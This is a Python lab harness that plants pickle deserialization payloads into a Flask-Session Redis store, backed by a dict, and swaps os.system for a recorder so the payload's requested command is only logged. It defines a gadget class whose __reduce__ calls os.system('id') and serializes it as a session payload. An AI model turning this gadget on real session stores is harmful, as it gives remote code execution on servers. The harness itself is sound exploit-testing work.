"""The pickle lab's payloads, planted in a real Flask-Session's store, with the command runner replaced.

Before the request, os.system and posix.system are replaced by a function that only records its argument,
so pickle.loads finds the recorder under those names: the call the payload asks for is observed, and no
command runs. The store is a dict behind the few client methods Flask-Session calls (no Redis needed).
Prints one JSON object per payload: the calls, the response, what the store holds afterwards.
"""
import json
import logging
import os
import pickle
import posix
import sys

import flask_session
import redis
from flask import Flask, session
from flask_session import Session

logging.disable(logging.CRITICAL)
CALLS = []


def recorder(command):
    CALLS.append(command)
    return 0


os.system = recorder
posix.system = recorder


class DictRedis(redis.Redis):
    """A Redis client (0.8.0 checks the type) that never connects: get / set(ex=) / setex / delete on a dict."""

    def __init__(self):  # no connection pool: nothing here talks to a server
        self.data = {}

    def get(self, name):
        return self.data.get(name)

    def set(self, name, value, ex=None, **kw):
        self.data[name] = bytes(value)
        return True

    def setex(self, name, time, value):
        self.data[name] = bytes(value)
        return True

    def delete(self, *names):
        return sum(1 for n in names if self.data.pop(n, None) is not None)


def run(payload):
    store = DictRedis()
    app = Flask(__name__)
    app.config.update(SECRET_KEY="k", SESSION_TYPE="redis", SESSION_REDIS=store)
    Session(app)

    @app.get("/account")
    def account():
        user = session.get("user")
        return "You are not logged in.\n" if user is None else f"Logged in as {user}.\n"

    sid = "0123456789abcdef0123456789abcdef"
    store.data["session:" + sid] = payload
    del CALLS[:]
    client = app.test_client()
    try:
        client.set_cookie("localhost", "session", sid)  # Werkzeug 2.2: (server_name, key, value)
    except TypeError:
        client.set_cookie("session", sid)  # Werkzeug 2.3+: (key, value)
    r = client.get("/account")
    after = store.data.get("session:" + sid)
    return {
        "calls": list(CALLS),
        "status": r.status_code,
        "body": r.get_data(as_text=True) if r.status_code == 200 else None,
        "storedAfterHex": after.hex() if after is not None else None,
        "storedAfterIsPayload": after == payload,
    }


class Run:
    def __reduce__(self):
        return (os.system, ("id",))


# os.system is the recorder now; pickle names a function by its module and name, so put the real names back.
recorder.__module__, recorder.__qualname__ = os.name if os.name != "nt" else "nt", "system"
writes = {"p4": pickle.dumps(Run(), protocol=4).hex(), "p4dict": pickle.dumps({"user": "guest", "x": Run()}, protocol=4).hex()}

out = {"writes": writes, "flaskSession": getattr(flask_session, "__version__", None), "python": sys.version.split()[0], "runs": {}}
for name, hexed in json.loads(sys.stdin.read()).items():
    out["runs"][name] = run(bytes.fromhex(hexed))
print(json.dumps(out))
